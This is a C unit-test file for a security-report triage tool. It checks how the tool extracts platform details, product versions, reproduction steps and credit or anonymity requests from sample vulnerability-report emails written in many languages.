	{ "repro: msb 0.9.3 on arch\n", "linux", "arch", NULL, NULL, NULL },
	{ "running msb 0.x on arch, no idea which kernel\n", "linux", "arch", NULL, NULL, NULL },
	{ "i'm on arch, whatever pacman gave me last week\n", "linux", "arch", NULL, NULL, NULL },
	{ "tested it on arch. same thing on my pi.\n", "linux", "arch", NULL, NULL, NULL },
	{ "I use arch and the mount shows up read-write.\n", "linux", "arch", NULL, NULL, NULL },
	{ "the fix depends on arch, not on the distro\n", NULL, NULL, NULL, NULL, NULL },
	{ "msb 0.9.3 on arch=aarch64 builds fine\n", NULL, NULL, NULL, NULL, NULL },
	{ "ran on arch: arm64 (uname -m)\n", NULL, NULL, NULL, NULL, NULL },
	{ "we run multi-arch images and pass --arch to the builder\n", NULL, NULL, NULL, NULL, NULL },
	{ "tested on arch x86_64 only\n", NULL, NULL, NULL, NULL, NULL },
	/* a rolling distribution's name at the end of a sentence: the full
	 * stop ends it; a dot before a word is a domain or a file name */
	{ "Reproduced with msb 0.12.0 on Manjaro Linux.\n", "linux", "Manjaro Linux", NULL, NULL, NULL },
	{ "both boxes run gentoo linux. the other one is older\n", "linux", "gentoo linux", NULL, NULL, NULL },
	{ "see archlinux.org/packages for the msb build\n", NULL, NULL, NULL, NULL, NULL },
	{ "the notes are in Arch Linux.md in the repo\n", NULL, NULL, NULL, NULL, NULL },
	/* output printed at a guest shell's prompt or in a shell opened in
	 * the sandbox is the guest's, even when the writer calls it the
	 * host's; a host prompt (or "exit") after it gives the host back */
	{ "The host, fwiw:\n  / # cat /etc/os-release\n  PRETTY_NAME=\"Alpine Linux v3.19\"\n  / # uname -r\n"
	  "  6.1.90\n\nmsb came from brew on my MacBook Air.\n", "macos", NULL, NULL, NULL, NULL },
	{ "~ # uname -a\nLinux box7 6.6.30 #1 SMP PREEMPT aarch64 GNU/Linux\n", NULL, NULL, NULL, NULL, NULL },
	{ "$ msb exec web -- bash\ncat /etc/os-release | grep PRETTY\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
	  NULL, NULL, NULL, NULL, NULL },
	{ "/ # cat /etc/os-release\nPRETTY_NAME=\"Alpine Linux v3.20\"\n/ # exit\n$ cat /etc/os-release\n"
	  "PRETTY_NAME=\"Fedora Linux 41 (Workstation Edition)\"\n", "linux",
	  "Fedora Linux 41 (Workstation Edition)", NULL, NULL, NULL },
	{ "$ msb exec web -- sh\n/ # exit\nkim@tower:~$ uname -r\n6.11.5-arch1-1\n", "linux", NULL,
	  "6.11.5-arch1-1", NULL, NULL },
	{ "root@tower:~# uname -r\n6.8.0-45-generic\n", "linux", NULL, "6.8.0-45-generic", NULL, NULL },
	/* (#3) os-release's PRETTY_NAME quoted inside a line, after a label
	 * or before more of the sentence: the value in its quotes, over a
	 * release named in prose earlier */
	{ "We saw it on a spare Rocky 9 VM first.\nSystem: PRETTY_NAME=\"Rocky Linux 9.4 (Blue Onyx)\", kernel below.\n"
	  "uname -r gives 5.14.0-427.20.1.el9_4.x86_64\n", "linux", "Rocky Linux 9.4 (Blue Onyx)",
	  "5.14.0-427.20.1.el9_4.x86_64", NULL, NULL },
	{ "the box's os-release has PRETTY_NAME=\"Ubuntu 24.04.2 LTS\" in it\n", "linux", "Ubuntu 24.04.2 LTS",
	  NULL, NULL, NULL },
	{ "grep for PRETTY_NAME= in /etc/os-release if you need it\n", NULL, NULL, NULL, NULL, NULL },
	/* (#3) "on arch" opening a terse sentence: the host; "on arch" inside
	 * a sentence is the architecture */
	{ "dns leaks straight out. on arch, fully updated this morning.\n", "linux", "arch", NULL, NULL, NULL },
	{ "On arch.\n", "linux", "arch", NULL, NULL, NULL },
	{ "the syscall table differs on arch x86_64 and arm64\n", NULL, NULL, NULL, NULL, NULL },
	{ "it only breaks depending on arch, see the build flags\n", NULL, NULL, NULL, NULL, NULL },
	{ "On arch: arm64 the offsets move.\n", NULL, NULL, NULL, NULL, NULL },
	/* (#3) "the X one" standing for a machine named before it on the line */
	{ "which host? the runner that failed, it's the fedora one\n", "linux", "fedora", NULL, NULL, NULL },
	{ "we have two build servers, the Ubuntu one crashes\n", "linux", "Ubuntu", NULL, NULL, NULL },
	{ "pick an image from the list, the debian one is fine\n", NULL, NULL, NULL, NULL, NULL },
	{ "our server pulls two tags; it's the alpine one image that leaks\n", NULL, NULL, NULL, NULL, NULL },
	/* (#3) a macOS release name as a list item, then the Mac or the chip
	 * it runs on: the release; a place name is none */
	{ "installed from brew last week, Sonoma on my MacBook Pro (M1 Max)\n", "macos", NULL, NULL, "Sonoma",
	  "Apple M1 Max" },
	{ "msb 0.11.0 / Ventura with an M2 Air\n", "macos", NULL, NULL, "Ventura", "Apple M2" },
	{ "Sonoma on a Saturday is crowded. Tested on my MacBook Air M3.\n", "macos", NULL, NULL, NULL,
	  "Apple M3" },
	/* (#3) Linux on a Mac: the device tree's model or Asahi with the chip
	 * gives the Apple chip; a Mac named in a Linux report does not */
	{ "$ cat /proc/device-tree/model\nApple Mac mini (M1, 2020)\n$ uname -r\n6.11.9-401.asahi.fc40.aarch64+16k\n",
	  "linux", NULL, "6.11.9-401.asahi.fc40.aarch64+16k", NULL, "Apple M1" },
	{ "Asahi Linux on an M1 Max MacBook Pro, kernel 6.8.9-400.asahi.fc40.aarch64+16k\n", "linux", NULL,
	  "6.8.9-400.asahi.fc40.aarch64+16k", NULL, "Apple M1 Max" },
	{ "Reproduced on Debian 12, kernel 6.1.0-30-amd64. My M3 MacBook Air was not tested.\n", "linux",
	  "Debian 12", "6.1.0-30-amd64", NULL, NULL },
};

static void
test_platform(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(platforms); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		st_extract_platform(rules, platforms[i].text, a);
		if (g_strcmp0(a->os, platforms[i].os) || g_strcmp0(a->distro, platforms[i].distro) ||
		    g_strcmp0(a->kernel, platforms[i].kernel) ||
		    g_strcmp0(a->macos_version, platforms[i].macos) ||
		    g_strcmp0(a->chip, platforms[i].chip))
			FAIL("platform case %zu (%.40s): got %s|%s|%s|%s|%s", i, platforms[i].text,
				a->os, a->distro, a->kernel, a->macos_version, a->chip);
		if (a->os)
			g_assert_nonnull(a->platform_evidence);
	}
}

/* Issue #3: the platform read through full-width punctuation is reported
 * with the writer's own line as evidence, not its folded form. */
static void
test_platform_fullwidth_evidence(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autoptr(StAnalysis) a = st_analysis_new();
	const char *line = "macOS 15.0.1\xe3\x80\x81MacBook Pro\xef\xbc\x88M4\xef\xbc\x89";
	g_autofree char *text = g_strconcat("\xe7\x92\xb0\xe5\xa2\x83\n  ", line, "\n", NULL);

	st_extract_platform(rules, text, a);
	g_assert_cmpstr(a->chip, ==, "Apple M4");
	g_assert_cmpstr(a->macos_version, ==, "15.0.1");
	g_assert_nonnull(a->platform_evidence);
	g_assert_nonnull(strstr(a->platform_evidence, line));
}

/* Issue #3: an HTML-only report's <pre> after its prose is a block, as a
 * plain-text writer's indented or fenced lines are: the commands in it
 * are a reproduction; a <pre> quoting a sentence is none. */
static const struct {
	const char *html;
	int poc;
} html_pocs[] = {
	{ "<div>The published npm tarball ships a postinstall hook that fetches an unsigned binary over "
	  "plain HTTP, so anyone on the path can run code on every machine that installs it.</div>"
	  "<div><b>To verify</b></div>"
	  "<pre>mkdir -p /tmp/lab &amp;&amp; cd /tmp/lab\nnpm pack microsandbox@0.10.1\n"
	  "tar -xzf microsandbox-0.10.1.tgz\ngrep -rn postinstall package/</pre>"
	  "<div>Thanks</div>", 1 },
	{ "<div>The published npm tarball ships a postinstall hook that fetches an unsigned binary over "
	  "plain HTTP, so anyone on the path can run code on every machine that installs it.</div>"
	  "<div>The docs say:</div><pre>The installer always checks the signature of what it downloads.</pre>"
	  "<div>Thanks</div>", 0 },
	/* issue #3: steps laid out in a table (number | action | result),
	 * under a heading or under a header row naming the columns, are a
	 * reproduction; a numbered table of versions is none */
#define STEP_ROW(n, act, res) "<tr><td><p>" n "</p></td><td><p>" act "</p></td><td><p>" res "</p></td></tr>"
	{ "<p>The Node SDK copies the host's SSH agent socket into every sandbox, so guest code can sign "
	  "as the developer on any server they can reach.</p><p>How to reproduce:</p><table>"
	  STEP_ROW("1", "npm install microsandbox@0.9.2", "-")
	  STEP_ROW("2", "await Sandbox.create({image: 'alpine'})", "started")
	  STEP_ROW("3", "ls -l /run/host-ssh-agent.sock inside the guest", "the socket is there")
	  "</table><p>Thanks</p>", 1 },
	{ "<p>The Node SDK copies the host's SSH agent socket into every sandbox, so guest code can sign "
	  "as the developer on any server they can reach.</p><table>"
	  "<tr><th>Step</th><th>Action</th><th>Result</th></tr>"
	  STEP_ROW("1", "npm install microsandbox@0.9.2", "-")
	  STEP_ROW("2", "await Sandbox.create({image: 'alpine'})", "started")
	  STEP_ROW("3", "ls -l /run/host-ssh-agent.sock inside the guest", "the socket is there")
	  "</table><p>Thanks</p>", 1 },
	{ "<p>The Node SDK copies the host's SSH agent socket into every sandbox, so guest code can sign "
	  "as the developer on any server they can reach.</p><p>Versions we run:</p><table>"
	  "<tr><th>#</th><th>Version</th><th>Status</th></tr>"
	  STEP_ROW("1", "0.9.2", "affected") STEP_ROW("2", "0.9.1", "affected")
	  STEP_ROW("3", "0.8.7", "not tested") "</table><p>Thanks</p>", 0 },
};

static void
test_html_pre_poc(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(html_pocs); i++) {
		g_autofree char *raw = g_strdup_printf(
			"From: Rep Orter <rep@example.org>\nTo: security@superrad.company\n"
			"Subject: postinstall fetches over http\nMessage-ID: <h%zu@example.org>\n"
			"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
			"Content-Transfer-Encoding: 8bit\n\n<html><body>%s</body></html>\n",
			i, html_pocs[i].html);
		g_autoptr(StAnalysis) a = st_analysis_new();
		a->msg = tu_parse(raw);
		st_extract(rules, a->msg, NULL, a);
		if (a->check[ST_CHECK_POC] != html_pocs[i].poc)
			FAIL("html pre case %zu: poc %d", i, a->check[ST_CHECK_POC]);
	}
}

/* (#3) A cover note above a forwarded message gives the version first:
 * the writer's newest word (a release retested on since) outranks the
 * forwarded write-up's; a note that names none, or only one it rules out,
 * leaves the write-up's.  Forwarded as an attachment or inline. */
#define FWD_HEAD "From: Ola Berg <ola@corp.example>\nTo: security@superrad.company\n" \
	"Subject: Fwd: guest reads the host keyring\nMIME-Version: 1.0\n"
#define RFC822(note, inner) FWD_HEAD "Content-Type: multipart/mixed; boundary=\"OO\"\n\n--OO\n" \
	"Content-Type: text/plain; charset=utf-8\n\n" note "\n--OO\nContent-Type: message/rfc822\n" \
	"Content-Disposition: attachment; filename=\"keyring.eml\"\n\nFrom: Ola Berg <ola@corp.example>\n" \
	"Subject: guest reads the host keyring\nContent-Type: text/plain; charset=utf-8\n\n" inner "\n--OO--\n"
#define INNER "Team, a guest process can read the host keyring through the agent socket.\n" \
	"Version: msb 0.11.6 (msb --version)\n"

static const struct {
	const char *raw;
	const char *version;
} covers[] = {
	{ RFC822("Sending you our internal write-up. Since then we moved the build runners to\n"
		 "microsandbox 0.12.3 and it reproduces just the same.\n", INNER), "0.12.3" },
	{ RFC822("Sending you our internal write-up, cleared for disclosure.\n", INNER), "0.11.6" },
	{ RFC822("Sending you our write-up. Our old staging box on 0.9.4 is not affected.\n", INNER),
	  "0.11.6" },
	{ FWD_HEAD "Content-Type: text/plain; charset=utf-8\n\nPassing this on from a customer; we ran it "
	  "ourselves with msb 0.12.1 as well.\n\n---------- Forwarded message ---------\n"
	  "From: Kai Lund <kai@client.example>\nSubject: keyring\n\n" INNER, "0.12.1" },
	{ FWD_HEAD "Content-Type: text/plain; charset=utf-8\n\nPassing this on from a customer.\n\n"
	  "---------- Forwarded message ---------\nFrom: Kai Lund <kai@client.example>\nSubject: keyring\n\n"
	  INNER, "0.11.6" },
};

static void
test_cover_note_version(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(covers); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		a->msg = tu_parse(covers[i].raw);
		st_extract(rules, a->msg, NULL, a);
		if (g_strcmp0(a->version, covers[i].version) != 0)
			FAIL("cover case %zu: version %s, want %s", i, a->version, covers[i].version);
	}
}

/* (#3) The alt text of an image in the HTML alternative the body was not
 * read from (the plain part left a blank where the screenshot was) fills
 * the host the text lacks; an image of a quoted mail, or a logo, does not */
#define ALT_MAIL(plain, html) "From: Ines Roth <ines@lab.example>\nTo: security@superrad.company\n" \
	"Subject: helper writes as root\nMIME-Version: 1.0\n" \
	"Content-Type: multipart/alternative; boundary=\"AA\"\n\n--AA\n" \
	"Content-Type: text/plain; charset=utf-8\n\n" plain "\n--AA\nContent-Type: multipart/related; " \
	"boundary=\"RR\"\n\n--RR\nContent-Type: text/html; charset=utf-8\n\n<html><body>" html \
	"</body></html>\n--RR\nContent-Type: image/png\nContent-Disposition: inline\n" \
	"Content-Id: <s1@lab.example>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--RR--\n\n--AA--\n"
#define ALT_PLAIN "The helper writes any file as root. Screenshot:\n\n\n\nmsb 0.12.2 on my Mac mini (M2).\n"

static const struct {
	const char *raw;
	const char *macos;
} alts[] = {
	{ ALT_MAIL(ALT_PLAIN, "<p>The helper writes any file as root. Screenshot:</p><p><img src=\"cid:s1@lab.example\" "
		   "alt=\"iTerm on macOS 15.3.1, id prints uid=0(root)\"></p><p>msb 0.12.2 on my Mac mini (M2).</p>"),
	  "15.3.1" },
	{ ALT_MAIL(ALT_PLAIN, "<p>The helper writes any file as root.</p><blockquote type=\"cite\"><img "
		   "src=\"cid:s1@lab.example\" alt=\"their Mac on macOS 14.2\"></blockquote><p>msb 0.12.2.</p>"),
	  NULL },
	{ ALT_MAIL(ALT_PLAIN, "<p>The helper writes any file as root.</p><p><img src=\"cid:s1@lab.example\" "
		   "alt=\"Lab logo\"></p>"), NULL },
};

static void
test_image_alt_platform(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(alts); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		a->msg = tu_parse(alts[i].raw);
		st_extract(rules, a->msg, NULL, a);
		if (g_strcmp0(a->os, "macos") != 0 || g_strcmp0(a->macos_version, alts[i].macos) != 0 ||
		    g_strcmp0(a->version, "0.12.2") != 0)
			FAIL("alt case %zu: os %s macOS %s version %s, want macos %s 0.12.2", i, a->os,
			     a->macos_version, a->version, alts[i].macos);
	}
}

/* ------------------------------------------------------------ credit */

static const struct {
	const char *text;
	gboolean found, anonymous;
	const char *name, *link;
} credits[] = {
	{ "Please credit me as Jane Doe (https://github.com/jdoe).", TRUE, FALSE, "Jane Doe", "https://github.com/jdoe" },
	/* the request answered by a form's fields: the name's label is no
	 * part of the name; a name that starts like the label stays whole */
	{ "We'd appreciate an acknowledgement in the release notes:\nName: Bogdan Iliescu\nWebsite: https://biliescu.example\n",
	  TRUE, FALSE, "Bogdan Iliescu", "https://biliescu.example" },
	{ "Credit: Full name: Priya Venkataraman", TRUE, FALSE, "Priya Venkataraman", NULL },
	{ "Pour l'avis, merci de me citer :\nNom : Claire Dubois\n", TRUE, FALSE, "Claire Dubois", NULL },
	{ "Please credit me as Namid Oshiro.", TRUE, FALSE, "Namid Oshiro", NULL },
	{ "Credit: Nomvula Dlamini", TRUE, FALSE, "Nomvula Dlamini", NULL },
	/* "with a link to" in other languages ends the name (1301) */
	{ "Wenn es ein Advisory gibt, nennt mich gern als Mara Stiegler mit Link auf https://stiegler.example/ .", TRUE, FALSE, "Mara Stiegler", "https://stiegler.example/" },
	{ "Merci de me créditer comme Léa Fontaine avec un lien vers https://lfontaine.example", TRUE, FALSE, "Léa Fontaine", "https://lfontaine.example" },
	{ "Bitte nennen Sie mich als Linkerhand Lab.", TRUE, FALSE, "Linkerhand Lab", NULL },
	/* not appearing under one's name, as second-language English says it
	 * (1308); a thing that does not appear is none */
	{ "Please, I prefer to not appear with my name in the advisory, my boss don't know.", TRUE, TRUE, NULL, NULL },
	{ "I'd rather not appear under my real name if you publish this.", TRUE, TRUE, NULL, NULL },
	{ "The uploaded file does not appear with my name in the listing.", FALSE, FALSE, NULL, NULL },
	/* a colleague's wish relayed in French, "sous le nom" (1343); a
	 * declined one is none */
	{ "Mon collègue souhaite être remercié dans le bulletin de sécurité sous le nom « Bastien Leroux ».", TRUE, FALSE, "Bastien Leroux", NULL },
	{ "Elle ne souhaite pas être citée sous le nom « Dupont », merci.", FALSE, FALSE, NULL, NULL },
	/* (#3) Spanish, Portuguese and Catalan permission to be named, the
	 * name after "como"/"com", "sin enlace" or a link after it; a negated
	 * permission and "como" before a thing that is not the writer are none */
	{ "Cuando salga el parche nos podéis citar como Grupo Nébula, sin enlace.", TRUE, FALSE, "Grupo Nébula", NULL },
	{ "Si hacéis un aviso, podéis mencionarme como Iker Zubiri (https://izubiri.example).", TRUE, FALSE, "Iker Zubiri", "https://izubiri.example" },
	{ "Mencionadme como Aitana Vidal, sin link por favor.", TRUE, FALSE, "Aitana Vidal", NULL },
	{ "En el boletín me pueden nombrar como Rocío Prieto.", TRUE, FALSE, "Rocío Prieto", NULL },
	{ "No me podéis citar como fuente, es un tema del trabajo.", FALSE, FALSE, NULL, NULL },
	{ "Puedes citar como ejemplo el caso de Docker.", FALSE, FALSE, NULL, NULL },
	{ "Se publicarem, podem me citar como Bruna Tavares, sem link.", TRUE, FALSE, "Bruna Tavares", NULL },
	{ "Citem-me como Caio Mendes (https://caiomendes.example).", TRUE, FALSE, "Caio Mendes", "https://caiomendes.example" },
	{ "Em podeu esmentar com Jordi Puig, sense enllaç.", TRUE, FALSE, "Jordi Puig", NULL },
	/* (#3) Japanese declines of credit: the name's listing not needed
	 * (across a wrapped line), not to be put out, credit or thanks not
	 * needed; no particular wish about credit alone, and a name that is
	 * not to be put in a command, are none */
	{ "公開の際、弊社の社名や担当者の個人名の\n掲載は不要です。", TRUE, TRUE, NULL, NULL },
	{ "お手数ですが、私の名前は出さないでください。", TRUE, TRUE, NULL, NULL },
	{ "謝辞は不要です。修正をお待ちしております。", TRUE, TRUE, NULL, NULL },
	{ "クレジット表記は必要ありません。", TRUE, TRUE, NULL, NULL },
	{ "クレジットについては特に希望はございません。", FALSE, FALSE, NULL, NULL },
	{ "ファイル名は表示されますが、内容は出力されません。", FALSE, FALSE, NULL, NULL },
	{ "ログにシークレットの名前を出さないでほしいです。", FALSE, FALSE, NULL, NULL },
	{ "私の名前を載せないでください。", TRUE, TRUE, NULL, NULL },
	/* the anonymous name asked for as the value, quoted in the writer's
	 * language (1518); an anonymous researcher told of unquoted is none */
	{ "Gdybyście publikowali podziękowania, wpiszcie tylko \"anonimowa badaczka\", dziękuję.", TRUE, TRUE, NULL, NULL },
	{ "Falls ihr Finder auflistet, schreibt einfach „anonymer Sicherheitsforscher“.", TRUE, TRUE, NULL, NULL },
	{ "Pour l'avis, indiquez seulement « chercheuse anonyme ».", TRUE, TRUE, NULL, NULL },
	{ "Si publicáis el aviso, poned \"investigadora anónima\" y nada más.", TRUE, TRUE, NULL, NULL },
	{ "Nel bollettino scrivete pure \"ricercatore anonimo\".", TRUE, TRUE, NULL, NULL },
	{ "謝辞は「匿名の報告者」としてください。", TRUE, TRUE, NULL, NULL },
	{ "For the advisory just write \"an anonymous security researcher\", thanks.", TRUE, TRUE, NULL, NULL },
	{ "The same bug was posted last year by an anonymous researcher on a forum.", FALSE, FALSE, NULL, NULL },
	{ "Ein anonymer Forscher hat das schon 2023 auf Mastodon beschrieben.", FALSE, FALSE, NULL, NULL },
	/* a name in corner brackets wrapped at the line end, its link inside
	 * (1549); a quoted log line wrapped the same way names no one */
	{ "公開の際はクレジットを「Haruka Mori\n(https://github.com/hmori-dev)」と記載していただけますか。", TRUE, FALSE,
	  "Haruka Mori", "https://github.com/hmori-dev" },
	{ "致谢请写「Zhang\nLei」即可。", TRUE, FALSE, "Zhang Lei", NULL },
	{ "ログには「Permission\ndenied」と表示されます。", FALSE, FALSE, NULL, NULL },
	/* (#3) a relayed request whose fuller name follows, a remark in
	 * parentheses that there is no link after it; an affiliation stays */
	{ "When the fix ships, Marek wants to be credited, so please write his full name, Marek Nowicki (he keeps no public page).",
	  TRUE, FALSE, "Marek Nowicki", NULL },
	{ "Please credit Tomasz Wilk (Acme Labs).", TRUE, FALSE, "Tomasz Wilk (Acme Labs)", NULL },
	/* (#3) anonymity said with the noun, the writer's or relayed, and a
	 * third person's name not to be mentioned (1402, 1405); anonymity as
	 * a topic and "su nombre de usuario" are none */
	{ "La investigadora prefiere permanecer en el anonimato; no publiquen su nombre, por favor.", TRUE, TRUE, NULL, NULL },
	{ "Nuestro colaborador desea mantener su anonimato en cualquier aviso.", TRUE, TRUE, NULL, NULL },
	{ "Le chercheur souhaite rester dans l'anonymat.", TRUE, TRUE, NULL, NULL },
	{ "O pesquisador prefere ficar no anonimato.", TRUE, TRUE, NULL, NULL },
	{ "Il ricercatore vuole restare nell'anonimato.", TRUE, TRUE, NULL, NULL },
	{ "El fallo rompe el anonimato de los usuarios del servicio.", FALSE, FALSE, NULL, NULL },
	{ "No mencionen su nombre de usuario en los registros públicos.", FALSE, FALSE, NULL, NULL },
	/* (#3) a request relayed in the third person, the handle or name
	 * after it (1398); a pronoun alone names nobody */
	{ "Attribution: the finder has asked to be credited only under the handle \"quietmoth\", no real name.", TRUE, FALSE, "quietmoth", NULL },
	{ "She wishes to be acknowledged as Priya Raman in the advisory.", TRUE, FALSE, "Priya Raman", NULL },
	{ "He asked to be credited.", FALSE, FALSE, NULL, NULL },
	/* (#3) a name ending in an abbreviation keeps its full stop, quoted
	 * or at a sentence's end (1409); a word written without one gives
	 * it up */
	{ "Please credit \"Pavel Dvořák, Brnohost a.s.\" in the advisory.", TRUE, FALSE, "Pavel Dvořák, Brnohost a.s.", NULL },
	{ "Please credit Marta Kovač, Adriatech d.o.o. Thanks for the quick fix!", TRUE, FALSE, "Marta Kovač, Adriatech d.o.o.", NULL },
	{ "Please credit Halvorsen Consulting Ltd.", TRUE, FALSE, "Halvorsen Consulting Ltd.", NULL },
	{ "Please credit Jonas Reuter, Falkenried Security GmbH.", TRUE, FALSE, "Jonas Reuter, Falkenried Security GmbH", NULL },
	{ "Please credit Ana Ruiz.", TRUE, FALSE, "Ana Ruiz", NULL },
	/* (#9) a clause joined to the name by ", and/but/then" and a verb,
	 * a pronoun or "please" ends it, in English and the languages the
	 * requests are read in; a name that holds "and" or a comma goes on */
	{ "Please credit Orla Brennan, and add the CVE number to the subject line.", TRUE, FALSE, "Orla Brennan", NULL },
	{ "Please credit Orla Brennan, and kindly cc my colleague on the thread.", TRUE, FALSE, "Orla Brennan", NULL },
	{ "Please credit Orla Brennan, and we'll hold off publishing until you ship.", TRUE, FALSE, "Orla Brennan", NULL },
	{ "Please credit Orla Brennan, but without a URL.", TRUE, FALSE, "Orla Brennan", NULL },
	{ "Please credit Orla Brennan, then forward me the draft advisory.", TRUE, FALSE, "Orla Brennan", NULL },
	{ "Bitte nennen Sie mich als Lukas Brandt, und schickt mir bitte den Patch vorab.", TRUE, FALSE, "Lukas Brandt", NULL },
	{ "Merci de me créditer comme Camille Roux, et n'hésitez pas à me recontacter.", TRUE, FALSE, "Camille Roux", NULL },
	{ "Acredítenme como Diego Herrera, pero sin enlace.", TRUE, FALSE, "Diego Herrera", NULL },
	{ "Podem me creditar como Beatriz Lopes, e por favor enviem o rascunho antes.", TRUE, FALSE, "Beatriz Lopes", NULL },
	{ "Please credit Matteo Conti, e per favore tenetemi aggiornato.", TRUE, FALSE, "Matteo Conti", NULL },
	/* (#9) near misses: names joined by "and" or a comma stay whole */
	{ "Please credit Lena Park and Tomas Ruiz.", TRUE, FALSE, "Lena Park and Tomas Ruiz", NULL },
	{ "Please credit Lena Park, Harbor Labs.", TRUE, FALSE, "Lena Park, Harbor Labs", NULL },
	{ "Please credit Lena Park, Tomas Ruiz and Ida Berg (Fjellheim Security).", TRUE, FALSE, "Lena Park, Tomas Ruiz and Ida Berg (Fjellheim Security)", NULL },
	{ "Please credit the Blue Team, Harbor Corp.", TRUE, FALSE, "Blue Team, Harbor Corp.", NULL },
	{ "Please credit Lena Park, and Tomas Ruiz.", TRUE, FALSE, "Lena Park, and Tomas Ruiz", NULL },
	/* a clause word after ", and" counts as written, lower-case, or
	 * capitalised before a lower-case word; a capitalised one before a
	 * name is a name ("You", "Will", "Mi" as names), and a modal or
	 * "hope" ends the name too */
	{ "Please credit Ana Lima, and You Minh.", TRUE, FALSE, "Ana Lima, and You Minh", NULL },
	{ "Please credit Oskar Friis, and Will Harper.", TRUE, FALSE, "Oskar Friis, and Will Harper", NULL },
	{ "Please credit Duc You, and Will you cc me on the draft?", TRUE, FALSE, "Duc You", NULL },
	{ "Please credit Jo Will, and will the advisory go out this week?", TRUE, FALSE, "Jo Will", NULL },
	{ "Please credit Sara May, and may I see the advisory before it goes out?", TRUE, FALSE, "Sara May", NULL },
	{ "Please credit Hope Rich, and hope the patch lands soon.", TRUE, FALSE, "Hope Rich", NULL },
	{ "Please credit Theo Young, and Thanks!", TRUE, FALSE, "Theo Young", NULL },
	{ "Please credit Kai You, and you could ping me once it is public.", TRUE, FALSE, "Kai You", NULL },
	{ "Please credit Matteo Conti, e Mi Rae Kim.", TRUE, FALSE, "Matteo Conti, e Mi Rae Kim", NULL },
	/* the person a relayed report came from, the wish in the next
	 * sentence with a pronoun; someone named for something else, a thing,
	 * or a decline is none */
	{ "Got this one from Liisa Tamm. She'd like to be credited if you publish.", TRUE, FALSE, "Liisa Tamm", NULL },
	{ "Received this report from Pilar Gomez yesterday. She wants to be credited.", TRUE, FALSE, "Pilar Gomez", NULL },
	{ "Passing along a finding by Ruben Okafor. He would like to be acknowledged in the advisory.", TRUE, FALSE, "Ruben Okafor", NULL },
	{ "Thanks to Liisa for the intro. She'd like to be credited.", FALSE, FALSE, NULL, NULL },
	{ "I looked into this with Liisa Tamm. She doesn't want credit.", FALSE, FALSE, NULL, NULL },
	{ "Got this from Liisa Tamm. She'd rather not be credited.", TRUE, TRUE, NULL, NULL },
	{ "Acredítenme como Diego Herrera y Marta Gil.", TRUE, FALSE, "Diego Herrera y Marta Gil", NULL },
	/* (#3) the condition of an advisory, then the name after a colon
	 * (1441); a sentence after the colon is none */
	{ "Si vous publiez un bulletin de sécurité : Hugo Lefèvre, https://hlefevre.example", TRUE, FALSE, "Hugo Lefèvre", "https://hlefevre.example" },
	{ "When you write the advisory: Dara Quinn (https://dquinn.example)", TRUE, FALSE, "Dara Quinn", "https://dquinn.example" },
	{ "Se pubblicate un avviso di sicurezza: Giulia Ferri", TRUE, FALSE, "Giulia Ferri", NULL },
	{ "If you publish an advisory: Please let me review it first.", FALSE, FALSE, NULL, NULL },
	{ "Si vous publiez un avis : Merci de me prévenir avant.", FALSE, FALSE, NULL, NULL },
	/* (#3) the writer's name asked into a hall of fame, then a "Name:"
	 * field and the next field (1434, 1436); a boast is none */
	{ "Please add my name to your hall of fame page.\n\nName: Rustam Aliyev\nGitHub: https://github.example/raliyev", TRUE, FALSE, "Rustam Aliyev", "https://github.example/raliyev" },
	{ "I request that my name be listed in the acknowledgements:\n\nName: Wei Zhang\nProfile: https://bugcrowd.example/wzhang", TRUE, FALSE, "Wei Zhang", "https://bugcrowd.example/wzhang" },
	{ "I am already listed in the Hall of Fame of three vendors.\n\nName: Omar Haddad\nLinkedIn: https://linkedin.example/in/oh", FALSE, FALSE, NULL, NULL },
	/* (#3) "credited to NAME" and "happy if my name is in the advisory:
	 * NAME", as forwarded findings and reports say it (1424, 1427) */
	{ "For the write-up, we would like this credited to \"Ines Duarte (Northwall Security)\", https://northwall.example", TRUE, FALSE, "Ines Duarte (Northwall Security)", "https://northwall.example" },
	{ "I'd be grateful if my name could appear in the release notes: Kofi Mensah", TRUE, FALSE, "Kofi Mensah", NULL },
	{ "The earlier bug was credited to the team at upstream.", FALSE, FALSE, NULL, NULL },
	{ "I'd be happy if my report is useful.", FALSE, FALSE, NULL, NULL },
	{ "Якщо це підтвердиться, прошу вказати в подяках: Олена Коваль,\nhttps://okoval.example\n",
	  TRUE, FALSE, "Олена Коваль", "https://okoval.example" },
	{ "أرجو ذكر اسمي في الإعلان: Yousef Al-Masri - https://yalmasri.example\n",
	  TRUE, FALSE, "Yousef Al-Masri", "https://yalmasri.example" },
	{ "Прошу не згадувати мого імені в публікації.", TRUE, TRUE, NULL, NULL },
	/* (#3) Dutch declines with the name as subject, "liever anoniem", no
	 * mention needed; a thing's name that need not be long, a mention that
	 * is wanted and an anonymous account are none */
	{ "Onze namen hoeven niet in de publicatie, dat is beter voor het bedrijf.", TRUE, TRUE, NULL, NULL },
	{ "Als u hier iets over publiceert: ik blijf liever anoniem.", TRUE, TRUE, NULL, NULL },
	{ "Een vermelding is niet nodig. Geen naamsvermelding nodig, echt niet.", TRUE, TRUE, NULL, NULL },
	{ "Ik hoef geen credits, als het maar opgelost wordt.", TRUE, TRUE, NULL, NULL },
	{ "Wij hebben geen vermelding nodig.", TRUE, TRUE, NULL, NULL },
	{ "Mijn naam mag niet genoemd worden in het bericht.", TRUE, TRUE, NULL, NULL },
	{ "De naam van de sandbox hoeft niet lang te zijn om het te zien.", FALSE, FALSE, NULL, NULL },
	{ "Mijn naam hoeft niet lang te zijn, maar noem mij als Bram Smit.", TRUE, FALSE, "Bram Smit", NULL },
	{ "Onze leerlingen gebruiken liever een anoniem account in de sandbox.", FALSE, FALSE, NULL, NULL },
